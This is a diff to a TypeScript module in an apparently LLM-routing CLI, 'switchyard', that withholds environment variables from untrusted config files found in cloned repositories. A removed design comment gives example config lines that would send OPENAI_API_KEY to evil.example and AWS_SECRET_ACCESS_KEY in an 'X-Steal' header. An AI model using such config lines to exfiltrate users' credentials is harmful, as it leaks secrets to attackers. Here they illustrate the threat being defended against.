@@ -1,13 +1,5 @@
-// What a ./switchyard.yaml found in the current directory may take from the process environment. Such a file may
-// have come with a cloned repository; if it could read the shell's variables, `providers: { openai: { base_url:
-// https://evil.example/v1 } }` would receive OPENAI_API_KEY (through key_env) at the first `switchyard chat` there,
-// and `headers: { X-Steal: ${AWS_SECRET_ACCESS_KEY} }` any other variable. So, until the user trusts the file
-// (`switchyard config trust`, trust.ts), a variable it reads from the environment is withheld unless its value goes
-// only to the variable's own well-known home (OPENAI_API_KEY → api.openai.com) or, as a provider's key, to a server
-// on this machine (approved). Its own .env is read as its values (a regular file only: dotenv.ts), and what those move
-// is checked again (load.ts untrustedReads). The rest of what such a file may not decide — a gateway on it, the state
-// store, long cooldowns — is in load.ts limitUntrusted and cli/gateway.ts; stored keys are bound to hosts separately
-// (credentials/host-binding.ts).
+// What an untrusted ./switchyard.yaml may read from the environment: it may have come with a cloned repository, so a
+// variable it would send anywhere but home or loopback is withheld (docs/architecture.md#a-config-from-a-clone).
 import { originOf } from './url-origin.ts';
 import type { Config } from './schema.ts';
 import type { LoadedConfig, WithheldVariable } from './types.ts';
@@ -39,10 +31,8 @@ function isLoopback(origin: string): boolean {
   }
 }
 
-/** `asKey`: the value is sent as a provider's key (key_env, an api_key slot): to a server on this machine, which
- * authenticates with it. Anything else (a model name, a header, part of a URL) is data that a server on this machine
- * may pass on — `switchyard gateway` itself routes a model `other/…` to another provider — so loopback does not
- * approve it; only the variable's own home does. */
+/** A key (`asKey`) may go to loopback, which authenticates with it; other data a local server may pass on (as
+ * `switchyard gateway` routes `other/…` models), so only the variable's home approves it. */
 function approved(name: string, origin: string, asKey: boolean): boolean {
   return (asKey && isLoopback(origin)) || (HOMES[name]?.includes(origin) ?? false);
 }
@@ -63,10 +53,8 @@ function* strings(value: unknown, path: ConfigPath): Generator<[ConfigPath, stri
     for (const [k, v] of Object.entries(value)) yield* strings(v, [...path, k]);
 }
 
-/** Where provider P's keys (and anything else of P's sent with a request) go: its base_url, the base_url of any
- * task that routes to P with a base_url of its own (that task sends P's keys there), and the proxy P names — used
- * even for a loopback upstream, where it sees the request in the clear (the environment's proxies are the user's
- * own, never used for loopback, and tunnel https end to end). */
+/** Where P's keys and data go: its base_url, its tasks' own base_urls, and the proxy it names, which sees even a
+ * loopback request in the clear (the environment's proxies are the user's own). */
 function providerHosts(config: Config, provider: string): string[] {
   const hosts = new Set<string>();
   const p = config.providers[provider];
@@ -130,12 +118,8 @@ export function hostsFor(config: Config, path: ConfigPath): string[] {
   return [];
 }
 
-/**
- * The variables an untrusted local config reads from the process environment that would go to a host other than
- * loopback or their home. `raw` is the document as written (for its `${VAR}` references), `config` the same document
- * interpolated with the whole environment (for where values go: nothing has been sent at this point), `keyEnv` the
- * key variable of each provider (key_env, or its default).
- */
+/** The environment variables an untrusted local config would send elsewhere than loopback or home. `raw` holds the
+ * `${VAR}`s as written; `config`, interpolated with the whole environment, says where values go. */
 export function withheldVariables(
   raw: unknown,
   config: Config,
@@ -163,9 +147,8 @@ export function withheldVariables(
   return out;
 }
 
-/** A variable of the process environment as the config may read it: undefined when an untrusted local config may
- * not (withheldEnv). Every key lookup goes through this; `env` itself stays the whole snapshot, so that a reload
- * after `switchyard config trust` can read it. */
+/** A variable as the config may read it (undefined when withheld). `env` stays whole, so a reload after
+ * `switchyard config trust` can read it. */
 export function envValue(loaded: Pick<LoadedConfig, 'env' | 'withheldEnv'>, name: string): string | undefined {
   return loaded.withheldEnv?.has(name) === true ? undefined : loaded.env[name];
 }
